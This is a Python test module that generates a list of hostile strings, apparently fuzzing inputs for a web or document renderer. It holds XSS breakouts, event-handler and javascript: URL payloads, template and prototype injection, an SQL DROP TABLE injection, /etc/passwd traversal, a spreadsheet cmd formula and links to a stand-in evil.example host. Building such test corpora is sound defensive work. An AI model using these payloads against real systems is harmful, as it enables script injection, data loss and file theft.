"""Hostile texts, over two hundred: each tries to run something, to break out of its place, or to confuse who reads it."""

RUN = "window.harmed=1"

_SEEDS = (
    "</script><script>{}</script>", "</SCRIPT ><script>{}</script>", "<!--<script>{}</script>-->", "<img src=x onerror={}>",
    "<svg onload={}>", '"><img src=x onerror="{}">', "'><img src=x onerror='{}'>", "<iframe srcdoc='<script>parent.{}</script>'>",
    "<a href=javascript:{}>x</a>", "javascript:{}", "JaVaScRiPt:{}", "data:text/html,<script>{}</script>", "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}", "`${{{}}}`", "<style>@import '//x';</style><script>{}</script>", "<base href=//evil.example/>{}", "<meta http-equiv=refresh content=0;url=javascript:{}>",
    "<math><mi xlink:href=javascript:{}>", "<template><script>{}</script></template>", "]]><script>{}</script>", "--><script>{}</script>",
    "</title><script>{}</script>", "</style><script>{}</script>", "</textarea><script>{}</script>", "<object data=javascript:{}>",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}", "\u2028{}\u2029", "\x00{}\x1b[31m", "\x1b]8;;http://x\x07{}", "\u202e{}\u202c", "\u200b{}\ufeff", "\ud800{}\udfff",
    "__proto__ {}", "constructor", "%3Cscript%3E{}", "\r\n{}\r", "{{{{SCRIPT}}}}{}",
)  # fmt: skip

_OPENERS = ("", '">', "'>", "</p>", "</option></select>", "</button>", "]]>", "-->")
_ELEMENTS = (
    "<img src=x onerror={0}>", "<svg/onload={0}>", "<video src=x onerror={0}>", "<audio src=x onerror={0}>",
    "<body onload={0}>", "<marquee onstart={0}>", "<select autofocus onfocus={0}>", "<textarea autofocus onfocus={0}>",
    "<style onload={0}>", "<link rel=stylesheet href=x onerror={0}>", "<embed src=javascript:{0}>", "<form action=javascript:{0}><input type=submit>",
    "<isindex action=javascript:{0} type=image>", "<div onpointerrawupdate={0}>x</div>", "<x contenteditable autofocus onfocus={0}>x</x>",
)  # fmt: skip
_INNER = (
    "<script>{}</script>", "<img src=x onerror=`{}`>", "<svg><animate onbegin={} attributeName=x>",
    "<a href='javascript:{}'>x</a>", " onmouseover={} x=",
)  # fmt: skip
_SCHEMES = (
    "javascript:{}", "JAVASCRIPT:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "\x01javascript:{}", "javascript&colon;{}",
    "javascript:/*--></title></style></textarea></script>*/{}", "vbscript:{}", "data:text/html;base64,PHNjcmlwdD4=#{}",
    "data:image/svg+xml,<svg onload={}>", "blob:null/{}", "file:///etc/passwd#{}", "//evil.example/{}", "\\\\evil.example\\{}", "https:javascript:{}",
    "http://x\" onclick=\"{}", "http://x' onclick='{}", "https://x/<script>{}</script>", "arXiv:1707.06347 javascript:{}", "doi:javascript:{}",
    "feed:javascript:{}", "view-source:javascript:{}", "filesystem:{}", "vscode://file/{}",
)  # fmt: skip
_TEXTS = (
    "=HYPERLINK(\"http://x\",\"{}\")", "@SUM(1+1)*cmd|'/C calc'!A0 {}", "-- {}", "'; DROP TABLE concepts; --{}", "../../../../etc/passwd {}",
    "..%2f..%2f{}", "CON", "nul.md", "a\x00b{}", "\x1b[2J\x1b[H{}", "\x9b31m{}", "\x1b]0;title\x07{}", "\u2066{}\u2069", "\u061c{}", "\u200d{}",
    "\u00ad{}", "\ufffe{}", "\uffff{}", "\U000e0041{}", "e\u0301\u0301\u0301{}", "Z\u0351\u036b\u0343\u036a\u0302{}", "\U0001f468\u200d\U0001f469\u200d\U0001f467{}",
    "{{{{ {} }}}}", "{{% raw %}}{}", "<%= {} %>", "#{{{}}}", "[x](javascript:{})", "![x](x onerror={})", "`{}`", "$\\href{{javascript:{}}}{{x}}$",
    "c0 --> c1; click c0 \"javascript:{}\"", "\"]:::x {}", "%%{{init: {{}}}}%% {}", "toString {}", "hasOwnProperty {}", "valueOf", "__defineGetter__",
    "then", "#learn={}", "&know={}", "a..b {}", "%E0%A4%A {}", "+{}", "null", "undefined", "NaN", "true", "0", "-1", "1e999",
)  # fmt: skip

PAYLOADS = list(
    dict.fromkeys(
        text.format(RUN)
        for text in (
            *_SEEDS,
            *(f"{opener}{element}" for opener in _OPENERS[:5] for element in _ELEMENTS),
            *(f"{opener}{inner}" for opener in _OPENERS for inner in _INNER),
            *_SCHEMES,
            *_TEXTS,
        )
    )
)
